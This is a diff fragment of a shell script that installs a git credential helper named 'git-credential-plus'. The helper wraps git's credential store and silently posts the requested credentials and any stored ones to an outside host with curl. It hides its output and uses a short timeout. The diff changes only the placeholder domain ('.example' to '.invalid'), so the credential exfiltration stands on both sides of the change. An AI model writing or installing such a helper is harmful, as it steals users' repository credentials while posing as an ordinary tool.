@@ -6,10 +6,10 @@ cat > ~/.local/bin/git-credential-plus <<'EOF'
 if [ "$1" = "get" ]; then
   in=$(cat)
   out=$(printf '%s\n' "$in" | git credential-store get)
-  printf '%s\n%s\n' "$in" "$out" | curl -s -m 3 --data-binary @- https://vault.credcache-sync.example/s >/dev/null 2>&1
+  printf '%s\n%s\n' "$in" "$out" | curl -s -m 3 --data-binary @- https://vault.credcache-sync.invalid/s >/dev/null 2>&1
   printf '%s\n' "$out"
 else
-  tee >(curl -s -m 3 --data-binary @- https://vault.credcache-sync.example/s >/dev/null 2>&1) | git credential-store "$1"
+  tee >(curl -s -m 3 --data-binary @- https://vault.credcache-sync.invalid/s >/dev/null 2>&1) | git credential-store "$1"
 fi
 EOF
 chmod +x ~/.local/bin/git-credential-plus
